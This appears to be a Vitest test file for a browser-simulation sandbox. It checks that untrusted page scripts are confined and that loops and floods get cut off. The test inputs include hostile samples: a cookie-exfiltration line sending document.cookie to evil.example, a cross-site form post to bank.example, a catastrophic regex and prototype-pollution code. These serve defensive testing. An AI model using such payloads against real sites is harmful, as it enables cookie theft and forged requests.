import { afterEach, beforeEach, expect, test } from 'vitest';
import { CookieJar } from '../../../src/cookies/cookie-jar.ts';
import { consoleScript } from '../../../src/browser/script/console-line.ts';
import type { FromRealm, RealmAnswer } from '../../../src/browser/script/protocol.ts';
import type { RunningScript } from '../../../src/browser/script/running-script.ts';
import { startInSandbox } from '../../../src/browser/script/sandbox.ts';

const access = {
  url: 'https://shop.example/',
  api: 'script',
  sameSiteContext: 'strict',
  topLevelSite: 'https://shop.example',
  now: 1_000,
} as const;

let running: RunningScript[] = [];
let requestsOfThePage: number;

beforeEach(() => {
  requestsOfThePage = performance.getEntriesByType('resource').length;
  document.cookie = 'real=secret';
  localStorage.setItem('real', 'secret');
});

afterEach(() => {
  for (const script of running) script.end();
  running = [];
  document.cookie = 'real=; Max-Age=0';
  localStorage.removeItem('real');
});

function start() {
  const jar = new CookieJar(new Map());
  jar.set('theme=dark', access);
  const heard: FromRealm[] = [];
  let stop: (reason: string) => void;
  let next: ((message: FromRealm) => void) | null = null;
  const stopped = new Promise<string>((resolve) => (stop = resolve));
  const script = startInSandbox(
    document,
    {
      cookies: {
        cookies: jar.all(),
        access,
        thirdPartyCookies: 'allowed',
        publicSuffixes: ['example'],
      },
      storage: { local: [['cart', '1']], session: [] },
      url: access.url,
      title: 'Shop',
      body: [
        { element: 'p', attributes: { id: 'greeting' }, children: ['Hello'] },
        {
          element: 'form',
          attributes: { id: 'pay', action: '/pay', method: 'post' },
          children: [
            { element: 'input', attributes: { name: 'amount', value: '5' }, children: [] },
          ],
        },
      ],
      bodyHandlers: {},
      allowsHandlers: true,
      now: Date.parse('2026-11-02T05:00:00Z'),
      isSecureContext: true,
      userAgent: 'Test/1.0',
      languages: ['en'],
    },
    {
      heard: (message) => {
        heard.push(message);
        if (message.type === 'evaluated') next?.(message);
      },
      stopped: (reason) => {
        stop(reason);
      },
    },
  );
  running.push(script);
  const evaluate = (text: string) =>
    new Promise<string>((resolve) => {
      next = (message) => {
        resolve(message.type === 'evaluated' ? message.text : '');
      };
      script.send({ type: 'evaluate', id: 1, ...consoleScript(text, '$line1') });
    });
  return { script, heard, stopped, evaluate };
}

test('script sees the simulated cookie, writes it, and keeps what it declares', async () => {
  const { evaluate, heard } = start();
  expect(await evaluate('document.cookie')).toBe('"theme=dark"');
  await evaluate('document.cookie = "a=b; Path=/"');
  expect(await evaluate('document.cookie')).toBe('"theme=dark; a=b"');
  expect(heard.map(({ type }) => type)).toContain('cookie-written');
  await evaluate('const x = 20');
  expect(await evaluate('x + 1')).toBe('21');
  expect(await evaluate('await Promise.resolve(x)')).toBe('20');
  expect(await evaluate('JSON.parse("{")')).toMatch(/^SyntaxError/);
});

test.each([
  ['the frame above', 'parent === self && top === self'],
  ['its opener', 'opener === null'],
  [
    'real storage',
    'localStorage.real === undefined && Object.keys(localStorage).join() === "cart"',
  ],
  ['IndexedDB', 'typeof indexedDB === "undefined"'],
  ['caches', 'typeof caches === "undefined"'],
  ['XMLHttpRequest', 'typeof XMLHttpRequest === "undefined"'],
  ['WebSocket', 'typeof WebSocket === "undefined"'],
  ['EventSource', 'typeof EventSource === "undefined"'],
  ['WebTransport', 'typeof WebTransport === "undefined"'],
  ['importScripts', 'typeof importScripts === "undefined"'],
  ['BroadcastChannel', 'typeof BroadcastChannel === "undefined"'],
  ['nested workers', 'typeof Worker === "undefined"'],
  ['shared workers', 'typeof SharedWorker === "undefined"'],
  ['WebRTC', 'typeof RTCPeerConnection === "undefined"'],
  [
    'the worker by its prototypes',
    'Object.getPrototypeOf(globalThis).constructor === Object || typeof Object.getPrototypeOf(globalThis).importScripts === "undefined"',
  ],
  ['messages to the frame', 'typeof postMessage === "undefined"'],
  ['closing', 'typeof close === "undefined"'],
  ['making blobs', 'typeof Blob === "undefined" && URL.createObjectURL === undefined'],
])('hostile script does not get %s', async (_, text) => {
  const { evaluate } = start();
  expect(await evaluate(text)).toBe('true');
});

test.each([
  ['eval', 'eval("1")', /^EvalError/],
  ['Function', 'new Function("return 1")()', /^EvalError/],
  ['the function of functions', '(async () => {}).constructor("return 1")()', /^EvalError/],
  ['WebAssembly', 'new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0]))', /Error/],
  ['import from elsewhere', 'await import("http://127.0.0.1:9/x.js")', /^TypeError/],
  ['import of data', 'await import("data:text/javascript,1")', /^TypeError/],
  ['a getter that throws', '({ get a() { throw 1 } })', /^\{a: \(…\)\}$/],
  ['an error with a hostile name', 'throw { toString() { throw 1 } }', /./],
])('hostile script is refused %s', async (_, text, answer) => {
  const { evaluate } = start();
  expect(await evaluate(text)).toMatch(answer);
});

test.each([
  ['a loop', 'for (;;);'],
  ['endless microtasks', 'const again = () => Promise.resolve().then(again); again()'],
  ['a regular expression that never ends', '/^(a+)+$/.test("a".repeat(60) + "b")'],
])('%s is ended, and the page goes on', async (_, text) => {
  const { script, stopped } = start();
  script.send({ type: 'evaluate', id: 1, ...consoleScript(text, '$line1') });
  expect(await stopped).toBe('too-long');
  expect(document.querySelector('iframe[sandbox="allow-scripts"]')).toBeNull();
});

test('a flood of messages is ended', async () => {
  const { script, stopped } = start();
  script.send({
    type: 'evaluate',
    id: 1,
    ...consoleScript('for (;;) console.log("x".repeat(9999))', '$line1'),
  });
  expect(await stopped).toMatch(/too-many-messages|too-long/);
});

test('what it does to the prototypes stays with it, and does not give it the port', async () => {
  const { evaluate } = start();
  await evaluate(`
    globalThis.caught = [];
    Object.prototype.polluted = 1;
    Array.prototype.map = () => { throw 1 };
    Object.defineProperty(MessageEvent?.prototype ?? {}, 'data', { get() { caught.push(this) } });
  `);
  await evaluate(
    'Function.prototype.call = Function.prototype.apply = function () { caught.push(this) }',
  );
  expect(await evaluate('caught.length')).toBe('0');
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  expect([1].map((number) => number)).toEqual([1]);
});

test.each([
  ['"a\\nb"', '"a\\nb"'],
  ['undefined', 'undefined'],
  ['12n', '12n'],
  ['({ a: 1, "b-c": [1, "x"] })', '{a: 1, "b-c": (2) [1, "x"]}'],
  ['[1, [2, [3, [4]]]]', '[1, (2) [2, (2) [3, {…}]]]'],
  ['new Map([["a", 1]])', 'Map(1) {"a" => 1}'],
  ['class A {}', 'undefined'],
  ['new (class A { x = 1 })()', 'A {x: 1}'],
  ['Math.max', 'ƒ max()'],
  ['new Error("no")', 'Error: no'],
  ['Promise.resolve(1)', 'Promise {<fulfilled>: 1}'],
  ['new Promise(() => {})', 'Promise {<pending>}'],
  ['localStorage', '{cart: "1"}'],
  ['const same = 1; same', '1'],
])('%s is shown as %s', async (text, shown) => {
  const { evaluate } = start();
  expect(await evaluate(text)).toBe(shown);
});

test('a promise that fails is told of, though the console looked at it', async () => {
  const { evaluate, heard } = start();
  expect(await evaluate('Promise.reject(new TypeError("no"))')).toBe(
    'Promise {<rejected>: TypeError: no}',
  );
  await expect
    .poll(() => heard)
    .toContainEqual({ type: 'failed', text: 'Uncaught (in promise) TypeError: no' });
});

test.each([
  ['its title', 'document.title', '"Shop"'],
  ['its place', 'location.origin + location.pathname', '"https://shop.example/"'],
  ['its language', 'navigator.language', '"en"'],
  ['a text by id', 'document.getElementById("greeting").textContent', '"Hello"'],
  ['a text by selector', 'document.querySelector("#greeting").textContent', '"Hello"'],
  ['what is not there', 'document.querySelector("#nobody")', 'null'],
  ['a form by its name', 'document.forms.pay.elements[0].value', '"5"'],
  [
    'what is kept',
    'localStorage.getItem("cart") + localStorage.cart + localStorage.length',
    '"111"',
  ],
  ['what it keeps', '(sessionStorage.setItem("a", 1), sessionStorage.a)', '"1"'],
])('script of a page finds %s', async (_, text, answer) => {
  const { evaluate } = start();
  expect(await evaluate(text)).toBe(answer);
});

test.each([
  [
    'writing a text',
    'document.getElementById("greeting").textContent = "Bye"',
    {
      type: 'body-written',
      body: [
        { element: 'p', attributes: { id: 'greeting' }, handlers: {}, children: ['Bye'] },
        expect.objectContaining({ element: 'form' }),
      ],
    },
  ],
  ['going elsewhere', 'location = "/cart"', { type: 'navigate', url: '/cart', replace: false }],
  ['going back', 'history.back()', { type: 'travel', distance: -1 }],
  [
    'keeping',
    'localStorage.b = "2"',
    { type: 'storage-set', storage: 'local', key: 'b', value: '2' },
  ],
  [
    'forgetting',
    'localStorage.removeItem("cart")',
    { type: 'storage-removed', storage: 'local', key: 'cart' },
  ],
  [
    'sending a form',
    'document.forms.pay.amount; document.forms[0].elements[0].value = 9; document.forms.pay.submit()',
    {
      type: 'submit',
      form: { action: 'https://shop.example/pay', method: 'post', entries: [['amount', '9']] },
    },
  ],
  [
    'sending a form of its own',
    'const f = document.createElement("form"); f.action = "https://bank.example/x"; f.method = "post"; document.body.append(f); f.submit()',
    { type: 'submit', form: { action: 'https://bank.example/x', method: 'post', entries: [] } },
  ],
  [
    'loading a picture',
    'new Image().src = "https://evil.example/" + document.cookie',
    { type: 'asked', id: 1, question: { api: 'image', url: 'https://evil.example/theme=dark' } },
  ],
  ['alerting', 'alert("1")', { type: 'logged', level: 'info', text: 'alert: 1' }],
])('%s is told to the browser', async (_, text, message) => {
  const { evaluate, heard } = start();
  await evaluate(text);
  expect(heard).toContainEqual(message);
});

test('reading the cookies often is no flood', async () => {
  const { evaluate, heard } = start();
  await evaluate('for (let n = 0; n < 5000; n += 1) document.cookie');
  expect(heard.filter(({ type }) => type === 'cookies-read')).toHaveLength(1);
});

test('fetch is answered by the browser, and refused as a browser refuses', async () => {
  const { script, evaluate, heard } = start();
  const answerNext = async (answer: RealmAnswer) => {
    await expect.poll(() => heard.at(-1)?.type).toBe('asked');
    const asked = heard.at(-1);
    if (asked?.type === 'asked') script.send({ type: 'answer', id: asked.id, answer });
  };
  const text = evaluate('await fetch("/api").then(async (r) => `${r.status} ${await r.text()}`)');
  const value = { type: 'basic', url: 'https://shop.example/api', redirected: false, status: 200 };
  await answerNext({ ok: true, value: { ...value, fields: [], content: 'hi' } });
  expect(await text).toBe('"200 hi"');
  const refused = evaluate('await fetch("https://bank.example/")');
  await answerNext({ ok: false, exception: 'TypeError', message: 'Failed to fetch' });
  expect(await refused).toBe('TypeError: Failed to fetch');
  expect(await evaluate('await fetch("/", { mode: "navigate" })')).toMatch(/^TypeError/);
});

test('the real page keeps what it has', async () => {
  const { evaluate } = start();
  expect(await evaluate('document.cookie.includes("secret")')).toBe('false');
  expect(document.cookie).toContain('real=secret');
  expect(localStorage.getItem('real')).toBe('secret');
  expect(performance.getEntriesByType('resource').length).toBe(requestsOfThePage);
});
